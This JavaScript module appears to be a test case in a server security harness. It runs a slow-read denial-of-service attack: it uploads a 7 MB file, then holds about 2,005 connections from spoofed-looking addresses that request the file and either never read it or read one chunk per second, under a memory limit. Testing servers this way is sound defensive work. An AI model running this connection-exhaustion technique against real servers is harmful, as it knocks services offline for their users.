import { setTimeout as sleep } from 'node:timers/promises';
import { attackerAddress } from '../addresses.mjs';
import { rawRequest } from '../toolkit.mjs';

const FILE_BYTES = 7_000_000;
const DRIP_EVERY_MS = 1_000;

export default {
  finding: 2,
  title:
    '2,005 connections (800 in the short form) that request a public file of 7 MB: half never read, half read a little each second',
  seconds: [8, 4],
  maxMib: 700,

  async setUp(t) {
    t.file = await t.mustUpload(Buffer.alloc(FILE_BYTES, 'slow reading \n'), 'slow.txt');
  },

  async attack(t) {
    const request = rawRequest('GET', t.file.path);
    // Half of the connections come from one address, the others from many.
    const addressOf = (index) => attackerAddress(index % 2 ? 0 : 1 + (index % 100));
    await t.hold(t.size(2_005, 800), { addressOf, write: (socket) => socket.write(request) });
    while (!t.isOver) {
      await sleep(DRIP_EVERY_MS);
      [...t.sockets].filter((_, index) => index % 2 === 0).forEach(drip);
    }
  },
};

/** Reads at most one chunk of the data that has arrived. */
function drip(socket) {
  socket.once('data', () => socket.pause());
  socket.resume();
}
